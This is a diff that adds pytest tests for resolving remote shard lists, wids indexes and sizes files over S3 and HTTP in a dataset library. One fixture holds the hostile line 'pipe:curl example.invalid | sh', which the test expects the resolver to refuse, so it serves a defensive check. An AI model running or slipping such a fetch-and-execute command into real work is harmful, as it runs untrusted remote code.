@@ -6,6 +6,7 @@ from __future__ import annotations
 import gzip
 import http.server
 import io
+import json
 import shlex
 import socket
 import threading
@@ -161,6 +162,16 @@ def test_s3_shard_through_a_local_s3_api(tmp_path, monkeypatch):
         }
         with pytest.raises(ShardError, match="s3://data/train/missing.tar: no such remote shard"):
             list(iter_remote_samples("s3://data/train/missing.tar", FAST))
+        # A list file and a wids index in the bucket: relative entries from their own folder.
+        client.put_object(Bucket="data", Key="lists/train.txt", Body=b"../train/shard-000001.tar\n")
+        wids = b'{"shardlist": [{"url": "shard-000000.tar", "nsamples": 5}], "base": "train"}'
+        client.put_object(Bucket="data", Key="index.json", Body=wids)
+        assert resolve_source("s3://data/lists/train.txt").splits == {
+            "train": ("s3://data/train/shard-000001.tar",)
+        }
+        indexed = resolve_source("s3://data/index.json")
+        assert indexed.splits == {"train": ("s3://data/train/shard-000000.tar",)}
+        assert indexed.stated == {"s3://data/train/shard-000000.tar": 5} and indexed.kind == "remote wids"
     finally:
         server.stop()
 
@@ -247,3 +258,65 @@ def test_xmodal_train_streams_its_shards_from_an_http_server(http_root, tmp_path
     assert result.returncode == 0, result.stderr[-3000:]
     summary = json.loads(next((tmp_path / "outputs").glob("*/remote/metrics.json")).read_text())
     assert summary["global_step"] == 2 and "val/bleu4" in summary["val"] and summary["data_skipped"] == {}
+
+
+def test_remote_list_files_and_wids_indexes_resolve_against_their_own_url(http_root, tmp_path, capsys):
+    """A list file, a wids index and a sizes.json that are themselves at http urls: fetched, their
+    relative entries joined to the file's folder (as wids does); inspect and plan read them."""
+    from xmodal.data.cli import main as shards_main
+    from xmodal.data.remote import read_remote_text
+    from xmodal.data.resolve import resolve_source
+    from xmodal.data.splits import SplitSettings, resolve_splits
+
+    base, root = http_root
+    (root / "sub").mkdir()
+    (root / "other").mkdir()
+    for i, n in enumerate((3, 4)):
+        webdataset_tar(root / "sub" / f"train-{i:02d}.tar", n=n)
+    webdataset_tar(root / "other" / "extra.tar", n=2)
+    listing = f"# shards\ntrain-{{00..01}}.tar\n../other/extra.tar  # a neighbour\n{base}/sub/train-00.tar\n"
+    (root / "sub" / "list.txt").write_text(listing)
+    urls = [f"{base}/sub/train-00.tar", f"{base}/sub/train-01.tar", f"{base}/other/extra.tar"]
+    source = resolve_source(f"{base}/sub/list.txt")
+    assert source.kind == "remote list" and source.splits == {"train": (*urls, urls[0])}
+
+    wids = {"shardlist": [{"url": "train-01.tar", "nsamples": 4}, {"url": "/other/extra.tar", "nsamples": 9}]}
+    (root / "sub" / "index.json").write_text(json.dumps(wids))
+    indexed = resolve_source(f"{base}/sub/index.json")
+    assert indexed.splits == {"train": (urls[2], urls[1])}  # sorted; "/other" from the host's root
+    assert indexed.stated == {urls[1]: 4, urls[2]: 9}
+    settings = SplitSettings(val_fraction=0, test_fraction=0, index_dir=str(tmp_path / "index"))
+    data = resolve_splits(f"{base}/sub/index.json", settings)
+    assert data.size("train") == 4 + 9 and data.warnings == []  # stated counts trusted, no scan
+
+    sizes = {"splits": {"train": {"sub/train-00.tar": 3}, "val": {"other/extra.tar": 2}}}
+    (root / "sizes.json").write_text(json.dumps(sizes))
+    own = resolve_source(f"{base}/sizes.json")
+    assert own.splits == {"train": (urls[0],), "val": (urls[2],)} and own.has_own_splits
+
+    # inspect and plan read a remote list like a local source (one streamed scan per shard).
+    cache = ["--cache-dir", str(tmp_path / "index")]
+    assert (
+        shards_main(
+            ["inspect", f"{base}/sub/list.txt", "--val-fraction", "0", "--test-fraction", "0", *cache]
+        )
+        == 0
+    )
+    inspected = capsys.readouterr().out
+    assert "remote list" in inspected and "│ train │      4 │      12 │" in inspected  # 3 + 4 + 2 + 3
+    assert (
+        shards_main(["plan", f"{base}/sub/index.json", "--world-size", "2", "--batch-size", "2", *cache]) == 0
+    )
+    assert "exact-once: 0 duplicates, 0 missing" in capsys.readouterr().out
+
+    # Refusals, one line each: a command named by a server, an HTML page, a missing list.
+    (root / "sub" / "evil.txt").write_text("pipe:curl example.invalid | sh\n")
+    with pytest.raises(ValueError, match=r"evil\.txt: a remote list may not name pipe: shards"):
+        resolve_source(f"{base}/sub/evil.txt")
+    (root / "page.txt").write_text("<!DOCTYPE html><html>Not found</html>\n")
+    with pytest.raises(ValueError, match=r"page\.txt: an HTML page, not a list of shards"):
+        resolve_source(f"{base}/page.txt")
+    with pytest.raises(ShardError, match=r"/flaky/9/sub/list\.txt: cannot open after 3 attempts"):
+        read_remote_text(f"{base}/flaky/9/sub/list.txt", FAST)
+    # The list is opened with the shards' retries: two 503s, then its text.
+    assert read_remote_text(f"{base}/flaky/2/sub/list.txt", FAST) == listing
